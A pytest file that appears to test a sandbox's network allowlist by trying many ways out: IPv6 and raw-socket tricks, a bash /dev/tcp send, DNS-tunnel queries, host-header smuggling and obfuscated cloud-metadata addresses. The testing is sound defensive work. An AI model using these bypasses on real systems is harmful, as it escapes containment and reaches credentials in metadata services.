"""Ways around the list, each tried where the internet is, where it arrives, and in a session whose policy goes out, from which nothing may
arrive: what counts is what a socket of packets beside the servers sees."""

import contextlib
import json
import socket
import time

import harness
import pytest
import without
from harness import edit, eventually
from world import METADATA, OTHER, PUBLIC, PUBLIC6, SERVER, World, echo

PORT = 81  # open out there, in no rule
ETH_P_ALL, ETH_P_IP, ETH_P_IPV6 = 3, 0x800, 0x86DD
PRELUDE = f"""
import contextlib, ctypes, json, os, select, socket, struct, subprocess, sys
PUBLIC, PUBLIC6, OTHER, METADATA, SERVER, PORT = {PUBLIC!r}, {PUBLIC6!r}, {OTHER!r}, {METADATA!r}, {SERVER!r}, {PORT}
def tcp(host, port=PORT, family=socket.AF_INET, protocol=0, options=(), say=b"attack"):
    s = socket.socket(family, socket.SOCK_STREAM, protocol)
    s.settimeout(5)
    for option in options: s.setsockopt(*option)
    s.connect((host, port))
    s.sendall(say)
    return s.recv(4096).decode("latin-1")
def sent(family, kind, protocol, to, data=b"attack", options=(), flags=0):
    s = socket.socket(family, kind, protocol)
    s.settimeout(2)
    for option in options: s.setsockopt(*option)
    s.sendto(data, flags, to)
    return s.recv(4096).decode("latin-1")
def proxied(target, how="CONNECT"):
    s = socket.create_connection(("127.0.0.1", 312), 5)
    s.settimeout(5)
    s.sendall(b"%s %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (how.encode(), target, target.removeprefix(b"http://").rstrip(b"/")))
    return s.recv(4096).decode("latin-1")
def socks(host, port):
    s = socket.create_connection(("127.0.0.1", 312), 5)
    s.settimeout(5)
    s.sendall(b"\\5\\1\\0")
    s.recv(2)
    s.sendall(b"\\5\\1\\0\\3" + bytes([len(host)]) + host + struct.pack(">H", port))
    return str(s.recv(10)[1:2])
def ask(name, server="127.0.0.53", type_=1):
    labels = b"".join(bytes([len(l)]) + l for l in name.split(b"."))
    return sent(socket.AF_INET, socket.SOCK_DGRAM, 0, (server, 53), struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">2H", type_, 1))
def echo_request(): return struct.pack(">BBHHH", 8, 0, 0xf7fd, 1, 1)
"""
# What is run; the protocol and the address that a packet of it has.
TCP, UDP, ICMP, SCTP = 6, 17, 1, 132
ATTACKS = {
    "a port in no rule": ("tcp(PUBLIC)", TCP, PUBLIC),
    "IPv6": ("tcp(PUBLIC6, family=socket.AF_INET6)", TCP, PUBLIC6),
    "IPv4 in IPv6": ("tcp('::ffff:' + PUBLIC, family=socket.AF_INET6)", TCP, PUBLIC),
    "TCP Fast Open by its flag": ("sent(socket.AF_INET, socket.SOCK_STREAM, 0, (PUBLIC, PORT), flags=0x20000000)", TCP, PUBLIC),
    "TCP Fast Open by its option": ("tcp(PUBLIC, options=[(6, 30, 1)])", TCP, PUBLIC),
    "MPTCP": ("tcp(PUBLIC, protocol=262)", TCP, PUBLIC),
    "a loose source route": ("tcp(PUBLIC, options=[(0, 4, bytes([1, 131, 7, 4]) + socket.inet_aton(PUBLIC))])", TCP, PUBLIC),
    "a mark": ("tcp(PUBLIC, options=[(1, 36, 1)])", TCP, PUBLIC),
    "without routes": ("tcp(PUBLIC, options=[(1, 5, 0), (1, 12, 6)])", TCP, PUBLIC),
    "UDP": ("sent(socket.AF_INET, socket.SOCK_DGRAM, 0, (PUBLIC, 443))", UDP, PUBLIC),
    "UDP over IPv6": ("sent(socket.AF_INET6, socket.SOCK_DGRAM, 0, (PUBLIC6, 443))", UDP, PUBLIC6),
    "UDP-Lite": ("sent(socket.AF_INET, socket.SOCK_DGRAM, 136, (PUBLIC, 443))", 136, PUBLIC),
    "ICMP": ("sent(socket.AF_INET, socket.SOCK_RAW, 1, (PUBLIC, 0), echo_request())", ICMP, PUBLIC),
    "a raw packet": ("sent(socket.AF_INET, socket.SOCK_RAW, 253, (PUBLIC, 0))", 253, PUBLIC),
    "the shell's /dev/tcp": ("subprocess.run(['/bin/bash', '-c', f'echo attack >/dev/tcp/{PUBLIC}/{PORT}'], check=True).returncode", TCP, PUBLIC),
    "a cloud's metadata": ("tcp(METADATA, 80, say=b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')", TCP, METADATA),
    "another's name at the address of a name": ("tcp(OTHER, 80, say=b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')", TCP, OTHER),
    "a name server of one's own": ("ask(b'tunnel.example', SERVER)", UDP, SERVER),
}  # fmt: skip
# By the door as a proxy, and by names: what arrives nowhere, whatever the answer is.
SPELLINGS = [b"169.254.169.254", b"169.254.169.254.", b"0xa9fea9fe", b"0xA9.0xFE.0xA9.0xFE", b"2852039166", b"0251.0376.0251.0376", b"169.254.43518",
             b"169.16689662", b"0251.254.169.0xfe", b"[::ffff:169.254.169.254]", b"[::ffff:a9fe:a9fe]", b"[64:ff9b::a9fe:a9fe]", b"[2002:a9fe:a9fe::]",
             b"[::169.254.169.254]", b"%31%36%39.254.169.254", b"169\xe3\x80\x82254\xe3\x80\x82169\xe3\x80\x82254"]  # fmt: skip
ELSEWHERE = [b"other.test", b"api.test@other.test", b"api.test:80@other.test", b"other.test\0.api.test", b"other.test\t", b"api.test.other.test", b"xapi.test",
             b"127.0.0.1", b"[::1]", b"0.0.0.0", b"0", b"11.0.0.1", b"10.9.9.9", b"100.64.0.9", b"localhost", b"[fe80::1%25lo]"]  # fmt: skip


class Seen:
    """What arrives at the servers' side: (protocol, address) of each packet that is no neighbour's and no group's business."""

    def __init__(self, world):
        with world.world.inside():
            self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
            self.socket.bind(("v1", ETH_P_ALL))
        self.socket.setblocking(False)

    def packets(self):
        out = set()
        with contextlib.suppress(BlockingIOError):
            while True:
                data, (_, kind, direction, _, _) = self.socket.recvfrom(65536)
                if direction == socket.PACKET_OUTGOING:
                    continue
                if kind == ETH_P_IP:
                    out.add((data[14 + 9], socket.inet_ntoa(data[14 + 16 : 14 + 20])))
                elif kind == ETH_P_IPV6 and data[14 + 24] != 0xFF and data[14 + 6] != 58:
                    out.add((data[14 + 6], socket.inet_ntop(socket.AF_INET6, data[14 + 24 : 14 + 40])))
        return out


@pytest.fixture(scope="module", params=["every port meets the door", "without nf_tables"])
def stand(here, tmp_path_factory, request):
    """(run in a session, run where the internet is, what arrives)"""
    folder = tmp_path_factory.mktemp("attacks")
    world = World(folder)
    with harness.Launcher(tmp_path_factory.mktemp("launcher")) as one:
        world.names.zone.update({"api.test": [PUBLIC], "other.test": [OTHER], "rebinding.test": [METADATA, "127.0.0.1"]})
        for address in (PUBLIC, PUBLIC6, OTHER, METADATA):
            for port in (80, PORT):
                world.serve(address, port, echo)
        edit(
            one.policies / "bash.json",
            network="allowlist",
            egress=[{"host": host, "ports": [80], "why": "what a test needs"} for host in ("api.test", "rebinding.test")],
            weaken=[{"field": "/network", "why": "what a test needs"}],
        )
        one.start(wrapper=[*world.wrapper(), *(without.wrapper() if request.param == "without nf_tables" else [])])
        control = one.control()
        if control.hello["tier"] not in ("T2", "T3"):
            pytest.skip("without a network namespace there is no way out")
        session = control.create()

        def inside(code):
            return json.loads(control.output(session, "/usr/bin/python3", "-I", "-c", told(code)))

        def unconfined(code):
            done = harness.subprocess.run(["/usr/bin/python3", "-I", "-c", told(code)], preexec_fn=world.as_container, capture_output=True, text=True, timeout=120, check=False)
            return json.loads(done.stdout)

        yield inside, unconfined, Seen(world), one, world
    world.close()


def told(code):
    """A program that says what the code gives, or which error it meets."""
    return f"{PRELUDE}\ntry: out = str({code})\nexcept Exception as e: out = repr(e)\nprint(json.dumps(out))"


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_arrives_from_outside_does_not_from_a_session(stand, attack):
    inside, unconfined, seen, _, _ = stand
    code, protocol, address = ATTACKS[attack]
    seen.packets()
    said = unconfined(code)
    if (protocol, address) not in seen.packets():
        pytest.skip(f"it does not arrive unconfined either: {said}")
    said = inside(code)
    time.sleep(0.2)
    assert not seen.packets(), said
    assert "attack" not in said or "Error" in said, said


@pytest.mark.parametrize("how", ["proxied({!r} + b':80')", "proxied(b'http://' + {!r} + b'/', 'GET')", "socks({!r}.strip(b'[]'), 80)"], ids=["CONNECT", "GET", "SOCKS"])
def test_no_spelling_of_another_host_is_reached_by_the_door(stand, how):
    inside, _, seen, launcher, _ = stand
    seen.packets()
    for target in [*SPELLINGS, *ELSEWHERE]:
        said = inside(how.format(target))
        time.sleep(0.02)
        assert " 200 " not in said and "x00" not in said, (target, said)
        assert not seen.packets(), (target, said)
    eventually(lambda: [r for r in launcher.records() if r.get("refusal") == "canary"], what="an alarm is on record")


def test_names_of_servers_inside_lead_nowhere(stand):
    """A name that is permitted, and whose record says otherwise: it is asked for once, and nothing is connected to."""
    inside, _, seen, _, _ = stand
    seen.packets()
    assert "403" in inside("proxied(b'http://rebinding.test/', 'GET')")
    time.sleep(0.2)
    assert {address for _, address in seen.packets()} <= {SERVER}


def test_names_carry_nothing_out(stand):
    """Names that are not permitted are not asked for outside, however many there are, of whatever type, and below a permitted name neither."""
    inside, _, seen, _, world = stand
    seen.packets()
    label = "b'%s' % (b'x' * 60)"
    for name in (f"b'.'.join([{label}] * 3 + [b'other', b'test'])", "b'secret.api.test'", "b'secret.api.test.other.test'", "b'other.test.api.test'"):
        for kind in (1, 28, 16, 10, 255, 65, 5):
            inside(f"ask({name}, type_={kind})")
    time.sleep(0.2)
    assert not seen.packets()


def test_the_servers_of_the_container_are_not_reached(stand):
    """The agent's port, as 127.0.0.1 and as the container's own address; the door at another workspace's side has an address of its own alone."""
    inside, _, seen, launcher, _ = stand
    for address in ("127.0.0.1", "11.0.0.1", "0.0.0.0"):
        said = inside(f"tcp({address!r}, {launcher.port}, say=b'GET /healthz HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')")
        assert "200 OK" not in said, said
    assert not seen.packets()


def test_a_tunnel_of_one_name_is_no_way_to_another(stand):
    """After CONNECT to what is permitted, another Host; a kept connection that names another host; both are that server's business or refused."""
    inside, _, seen, _, _ = stand
    seen.packets()
    code = "tcp('127.0.0.1', 312, say=b'GET http://api.test/ HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n')"
    assert " 400 " in inside(code) or " 403 " in inside(code)
    time.sleep(0.1)
    assert (TCP, OTHER) not in seen.packets()


def test_what_a_session_may_do_it_can(stand):
    """Else nothing of this proved anything."""
    inside, _, seen, _, _ = stand
    seen.packets()
    assert inside("proxied(b'api.test:80')").startswith("HTTP/1.1 200")
    eventually(lambda: (TCP, PUBLIC) in seen.packets(), what="it arrives")


def test_the_packet_socket_sees_what_it_should(stand):
    _, unconfined, seen, _, _ = stand
    seen.packets()
    unconfined("tcp(PUBLIC)")
    assert (TCP, PUBLIC) in seen.packets()
